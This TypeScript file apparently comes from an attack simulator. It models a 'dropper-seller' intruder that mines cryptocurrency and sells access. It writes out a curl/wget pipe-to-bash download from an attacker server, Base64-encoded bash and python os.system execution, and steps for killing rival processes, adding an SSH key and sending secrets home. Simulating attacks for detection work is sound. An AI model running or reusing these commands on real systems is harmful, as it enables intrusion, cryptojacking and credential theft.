import type { Foothold, GangForm, GangModel } from '../../gangs/gang.ts'
import { XMRIG_AGENT } from '../../network/cryptonote.ts'
import { type Act, MINUTE_MS } from '../../schedule.ts'
import { raidAccount } from './cloud-thief.ts'
import { client, fingerprint, type Place, publicPool, proxyPool, word } from './draw.ts'
import { killByFolder, killGreedy } from './fighting.ts'
import { quietHistory, removeBinary } from './hiding.ts'
import { askMetadata, gatherSecrets, lookForNext, openProxy, sendHome } from './looting.ts'
import { secondUser } from './staying.ts'
import { inAnyOrder, inTurn, trick } from './tricks.ts'

/**
 * Sells access and mines until a buyer comes: drops by Base64, leaves no file behind, brings proxies and scanners,
 * gathers secrets and sends them home. Comes back in person, since nothing but a key stays to come back by.
 */
export const dropperSeller: GangModel = {
  name: 'dropper-seller',
  family: null,
  form: formed,
}

function formed(place: Place): GangForm {
  const { random, places, skill } = place
  const path = `${random.pick(['/dev/shm', '/var/tmp', '/tmp'])}/.${random.hex(random.integer(6, 12))}`
  const wallet = places.wallet()
  const download = {
    ip: places.server(),
    name: random.chance(0.3) ? places.name() : null,
    paths: [`/${word(random, 1, 3)}`, `/${word(random, 2, 4)}`],
  }
  return {
    traits: {
      wallets: [wallet],
      pool: random.chance(0.5) ? publicPool(place) : proxyPool(place),
      login: (machine, own) => ({
        login: `${wallet}${random.pick(['.', '+', '/'])}${own.chance(0.5) ? machine.facts.name : own.hex(5)}`,
        pass: 'x',
      }),
      agent: random.pick([
        XMRIG_AGENT,
        'XMRig/6.18.1 (Linux x86_64) libuv/1.44.2 gcc/10.2.1',
        'SRBMiner-MULTI/2.4.9',
      ]),
      miner: {
        path,
        comm: random.pick(['memfd:', '3', 'sh', 'python3', 'perl']),
        args: () => (skill === 'low' ? ['--algo', 'rx/0', '-o', 'auto'] : []),
        cpuShare: skill === 'high' ? random.between(0.4, 0.6) : random.between(0.6, 0.85),
        knownAs: [],
      },
      sources: [places.source(), places.source()],
      client: client(random),
      download,
      control: {
        ip: download.ip,
        name: null,
        port: random.pick([443, 4443, 8081, 53]),
        everyMs: random.integer(5, 30) * MINUTE_MS,
      },
      key: {
        fingerprint: fingerprint(random),
        comment: random.pick(['support', 'ansible', 'backup@nas', 'deploy']),
      },
      waysIn: ['redis', 'web-exploit', 'ssh-password', 'docker-api'],
      spreads: 0.2,
      sells: 0.9,
      returnsAfterMs: random.integer(120, 360) * MINUTE_MS,
    },
    *occupy(foothold) {
      yield* quietHistory(foothold)
      yield* unpack(
        foothold,
        `(curl -fsSL http://${download.ip}${download.paths[0] ?? '/'}||wget -qO- http://${download.ip}${download.paths[0] ?? '/'})|bash`,
      )
      yield* inAnyOrder(foothold, [
        trick(0.75, (own) => killGreedy(own, own.random.integer(40, 90))),
        trick(0.65, killByFolder),
      ])
      if (!(yield* foothold.fetch(download.paths[1] ?? '/m', path, { what: 'miner' }))) return
      yield* foothold.changeMode(path, 0o755)
      yield* foothold.startMiner()
      if (skill !== 'low' || foothold.random.chance(0.4)) yield* removeBinary(foothold)
      yield* foothold.addKey('append')
      yield* inAnyOrder(foothold, [
        trick(0.4, askMetadata),
        trick(0.8, gatherSecrets),
        trick(0.6, sendHome),
        trick(0.6, openProxy),
        trick(0.4, lookForNext),
        trick(0.4, secondUser),
      ])
    },
    ...(random.chance(0.35) ? { raid: raidAccount } : {}),
    *lookAfter(foothold) {
      yield* inTurn(foothold, [trick(0.7, gatherSecrets), trick(0.5, sendHome), trick(0.4, openProxy)])
    },
  }
}

/** A script that comes as text: it is only ever text here. */
function* unpack(foothold: Foothold, script: string): Act {
  const encoded = Buffer.from(script).toString('base64')
  if (foothold.random.chance(0.5)) {
    yield* foothold.hands.pipe(`echo ${encoded}|base64 -d|bash`, [['base64', '-d'], ['bash']])
    return
  }
  yield* foothold.hands.run([
    'python3',
    '-c',
    `import base64,os;os.system(base64.b64decode("${encoded}").decode())`,
  ])
}
